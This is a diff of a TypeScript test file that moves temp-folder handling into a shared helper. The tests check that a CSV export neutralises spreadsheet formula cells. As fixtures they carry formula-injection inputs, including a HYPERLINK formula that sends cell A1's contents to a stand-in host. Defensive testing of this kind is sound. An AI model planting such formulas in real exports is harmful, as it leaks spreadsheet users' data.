@@ -5,14 +5,14 @@
  * default python3) and fails, saying so, without it.
  */
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { parseCsvList, parseCsvText } from '../../src/core/export/csv.ts';
 import { buildGraph } from '../../src/core/pipeline/buildGraph.ts';
 import { smallDataset, toDataFiles, type SerialisedActorGraph } from '../helpers/dataset.ts';
 import { runScript } from '../helpers/run.ts';
+import { interopFolder } from '../helpers/interop.ts';
 
 const PYTHON = process.env.PYTHON ?? 'python3';
 
@@ -48,14 +48,7 @@ const missing =
         python.error?.message ?? python.stderr.trim()
       }`
     : undefined;
-let dir: string;
-beforeAll(() => {
-  dir = mkdtempSync(join(tmpdir(), 'actor-graph-interop-csv-'));
-});
-beforeEach(() => {
-  if (missing) throw new Error(missing);
-});
-afterAll(() => rmSync(dir, { recursive: true, force: true }));
+const folder = interopFolder('csv', missing);
 
 describe('a graph with formulas and list separators exported as CSV by npm run export', () => {
   let graph: SerialisedActorGraph;
@@ -76,13 +69,13 @@ describe('a graph with formulas and list separators exported as CSV by npm run e
       label: '+label',
       articles: ['=a1', ...a.articles],
     }));
-    graphPath = join(dir, 'formulas.json');
+    graphPath = join(folder(), 'formulas.json');
     writeFileSync(graphPath, JSON.stringify(built.export()));
     graph = built.export() as unknown as SerialisedActorGraph;
-    const out = join(dir, 'formulas.csv');
+    const out = join(folder(), 'formulas.csv');
     const run = runScript('export.ts', ['--graph', graphPath, '--out', out]);
     expect(run.status, run.stderr).toBe(0);
-    [edges, nodes] = readWithPython(out, join(dir, 'formulas.nodes.csv')) as [Row[], Row[]];
+    [edges, nodes] = readWithPython(out, join(folder(), 'formulas.nodes.csv')) as [Row[], Row[]];
   });
 
   it('has no cell that a spreadsheet would run as a formula', () => {
@@ -116,10 +109,10 @@ describe('a graph with formulas and list separators exported as CSV by npm run e
   });
 
   it('writes the cells as they are with --no-neutralise', () => {
-    const out = join(dir, 'raw.csv');
+    const out = join(folder(), 'raw.csv');
     const run = runScript('export.ts', ['--graph', graphPath, '--out', out, '--no-neutralise']);
     expect(run.status, run.stderr).toBe(0);
-    const [, rawNodes] = readWithPython(out, join(dir, 'raw.nodes.csv')) as [Row[], Row[]];
+    const [, rawNodes] = readWithPython(out, join(folder(), 'raw.nodes.csv')) as [Row[], Row[]];
     const alpha = rawNodes.find((r) => r.id === 'alpha')!;
     expect(alpha.label).toBe('=HYPERLINK("http://x.test/?"&A1,"Click")');
     expect(alpha.note).toBe('\tline one\r\n+line two, "quoted"');
